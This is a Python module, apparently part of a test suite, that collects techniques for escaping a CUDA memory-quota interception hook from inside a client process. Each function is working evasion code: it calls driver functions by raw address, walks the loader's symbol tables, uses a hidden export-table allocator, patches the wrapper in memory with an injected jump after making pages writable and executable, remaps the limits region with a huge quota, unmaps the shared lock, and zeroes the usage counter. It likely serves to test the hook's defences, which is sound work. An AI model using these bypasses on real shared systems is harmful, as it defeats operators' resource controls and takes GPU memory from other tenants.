"""Ways around the hook, run inside a program (`client.py`) that wants out.

Each takes what it is told to by the driver's own functions, and none of them uses a right that a
user's program has not. Nothing but the standard library is needed.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import struct
from typing import Any

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.mmap.restype = ctypes.c_void_p
_LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
_LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_ALL = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
_FIXED = 0x10
_FAILED = ctypes.c_void_p(-1).value
_SYMBOL = struct.Struct("IBBHQQ")  # Elf64_Sym: its name, then how and where, its value and its size
_TEXTS, _SYMBOLS = 5, 6  # DT_STRTAB and DT_SYMTAB
# A jump to the address behind it.
_JUMPS = {"x86_64": (b"\x48\xb8", b"\xff\xe0"), "aarch64": (b"\x50\0\0\x58\0\x02\x1f\xd6", b"")}


class _Library(ctypes.Structure):
    """The part of glibc's link_map that debuggers read."""

    _fields_ = (
        ("start", ctypes.c_uint64),
        ("path", ctypes.c_char_p),
        ("dynamic", ctypes.c_uint64),
        ("next", ctypes.c_uint64),
    )


def takes(cuda: Any, size: int) -> int:
    """A context and so much memory, from a library with the driver's functions; its answer."""
    context, pointer = ctypes.c_void_p(), ctypes.c_uint64()
    assert cuda.cuInit(0) == 0
    assert cuda.cuDevicePrimaryCtxRetain(ctypes.byref(context), 0) == 0
    assert cuda.cuCtxSetCurrent(context) == 0
    answer: int = cuda.cuMemAlloc_v2(ctypes.byref(pointer), ctypes.c_size_t(size))
    return answer


def by_address(driver: str, offsets: dict[str, int], size: int) -> int:
    """The driver's functions where they are in memory, without asking the loader for them."""
    ctypes.CDLL("libcuda.so.1")
    start = _mapped(driver)[0]
    return _takes_at({name: start + offset for name, offset in offsets.items()}, size)


def by_the_tables(names: tuple[str, ...], size: int) -> int:
    """The same, with addresses from the symbols that lie in memory, by no file and no lookup."""
    addresses: dict[str, int] = {}
    at = ctypes.CDLL("libcuda.so.1")._handle  # which is the library's link_map
    while at:
        library = _Library.from_address(at)
        symbols = _symbols(library)
        # Of several libraries that have them the driver is the last: ours comes before it.
        addresses.update({name: symbols[name] for name in names if name in symbols})
        at = library.next
    return _takes_at(addresses, size)


def by_an_export_table(identity: bytes, size: int) -> int:
    """The driver's allocation out of a table of its own, behind how many bytes that has."""
    cuda, table, pointer = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p(), ctypes.c_uint64()
    assert takes(cuda, 1 << 20) == 0
    assert cuda.cuGetExportTable(ctypes.byref(table), identity) == 0
    bytes_there, allocate = struct.unpack("QQ", ctypes.string_at(table.value or 0, 16))
    assert bytes_there == struct.calcsize("QQ")
    kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
    answer: int = kind(allocate)(ctypes.addressof(pointer), size)
    return answer


def by_a_patch(fence: str, driver: str, wrapper: int, real: int, size: int) -> int:
    """The wrapper begins with a jump to the driver's own function."""
    cuda = ctypes.CDLL("libcuda.so.1")
    address = _mapped(fence)[0] + wrapper
    page = address & ~(mmap.PAGESIZE - 1)
    assert _LIBC.mprotect(page, 2 * mmap.PAGESIZE, _ALL) == 0
    before, after = _JUMPS[platform.machine()]
    code = before + (_mapped(driver)[0] + real).to_bytes(8, "little") + after
    ctypes.memmove(address, code, len(code))
    return takes(cuda, size)


def by_other_limits(limits: str, offset: int, size: int) -> int:
    """Memory of one's own where the limits are mapped, with another quota in it."""
    cuda = ctypes.CDLL("libcuda.so.1")
    takes(cuda, 1 << 20)  # so that they are there
    start, end = _mapped(limits)
    content = bytearray(ctypes.string_at(start, end - start))
    content[offset : offset + 8] = (1 << 40).to_bytes(8, "little")
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _FIXED
    protection = mmap.PROT_READ | mmap.PROT_WRITE
    if _LIBC.mmap(start, end - start, protection, flags, -1, 0) != _FAILED:
        ctypes.memmove(start, bytes(content), len(content))
    return takes(cuda, size)


def lets_go(region: str) -> bool:
    """Unmap what holds the lock on this process's slot, so that it looks like a dead one's."""
    held = [line for line in _lines(region) if " ---s " in line]
    places = [tuple(int(word, 16) for word in line.split()[0].split("-")) for line in held]
    return bool(places) and all(_LIBC.munmap(start, end - start) == 0 for start, end in places)


def by_its_own_word(region: str, offset: int, size: int, step: int) -> int:
    """Bit by bit, and each time the region is made to say that nothing was taken."""
    cuda = ctypes.CDLL("libcuda.so.1")
    answer = 0
    for _ in range(size // step):
        answer = answer or takes(cuda, step)
        with open(region, "r+b") as file:  # noqa: PTH123 (as any program would)
            os.pwrite(file.fileno(), bytes(8), offset)
    return answer


def _takes_at(addresses: dict[str, int], size: int) -> int:
    kind = ctypes.CFUNCTYPE(ctypes.c_int)
    functions = {name: staticmethod(kind(address)) for name, address in addresses.items()}
    return takes(type("Found", (), functions), size)


def _symbols(library: _Library) -> dict[str, int]:
    """The functions of a library that is loaded, with their addresses."""
    tables, at = {}, library.dynamic
    while (entry := struct.unpack("QQ", ctypes.string_at(at, 16)))[0]:
        tables[entry[0]] = entry[1]
        at += 16
    symbols, texts = tables[_SYMBOLS], tables[_TEXTS]
    rows = (texts - symbols) // _SYMBOL.size  # linkers put the one right behind the other
    content = ctypes.string_at(symbols, rows * _SYMBOL.size)
    named = ((row[0], row[4]) for row in _SYMBOL.iter_unpack(content))
    return {
        ctypes.string_at(texts + name).decode(): library.start + value
        for name, value in named
        if value
    }


def _mapped(path: str) -> tuple[int, int]:
    """Where a file begins and ends in memory."""
    ranges = [line.split()[0].split("-") for line in _lines(path)]
    return int(ranges[0][0], 16), int(ranges[-1][1], 16)


def _lines(path: str) -> list[str]:
    """Of the process's own mappings, those of a file."""
    with open("/proc/self/maps") as lines:  # noqa: PTH123 (the client has no time for pathlib)
        mapped = os.path.realpath(path)
        return [line for line in lines if line.rstrip().endswith(mapped)]
